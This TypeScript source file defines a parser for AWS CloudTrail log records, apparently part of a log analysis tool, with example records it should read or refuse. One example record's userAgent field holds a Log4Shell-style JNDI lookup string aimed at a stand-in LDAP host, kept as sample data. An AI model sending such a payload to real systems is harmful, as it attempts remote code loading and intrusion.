import { readTime } from '../time/read-time.ts'
import { enclosingObject } from './enclosing-object.ts'
import type { LogFormat } from './format.ts'
import { collectedFields } from './json-lines.ts'
import { textAt } from './members.ts'

/** Events of AWS CloudTrail: one a line, or many in the `Records` of one document, on one line or on many. */
export const cloudtrail: LogFormat = {
  id: 'cloudtrail',
  summary: 'AWS CloudTrail: a document with `Records`, or an event a line',
  definedBy:
    'https://docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-event-reference-record-contents.html',
  examples: {
    reads: [
      {
        record:
          '{"eventVersion":"1.08","userIdentity":{"type":"IAMUser"},"eventTime":"2021-12-12T04:25:41Z","eventSource":"s3.amazonaws.com","eventName":"GetObject","sourceIPAddress":"203.0.113.9","userAgent":"[${jndi:ldap://x.example/a}]","requestParameters":{"key":"a"}}',
        when: '2021-12-12T04:25:41Z',
        from: '203.0.113.9',
        request: 's3.amazonaws.com GetObject',
        userAgent: '[${jndi:ldap://x.example/a}]',
      },
    ],
    refuses: ['{"eventVersion":"1.08"}', '{"Records":[{"eventVersion":"1.08","eventTime":"2021-12-12T04:25:41Z"}]}'],
  },
  read({ json }, { around }) {
    const [version, time] = [textAt(json, 'eventVersion'), textAt(json, 'eventTime')]
    const [source, name] = [textAt(json, 'eventSource'), textAt(json, 'eventName')]
    if (json === null || version === null || time === null || source === null || name === null) return null
    return {
      when: readTime(time, around),
      from: textAt(json, 'sourceIPAddress'),
      request: `${source} ${name}`,
      userAgent: textAt(json, 'userAgent'),
      fields: collectedFields(json),
    }
  },
  spans: {
    mark: '"eventVersion"',
    mayHold: () => true,
    around: (piece, place) => enclosingObject(piece, place, '"eventVersion"'),
  },
}
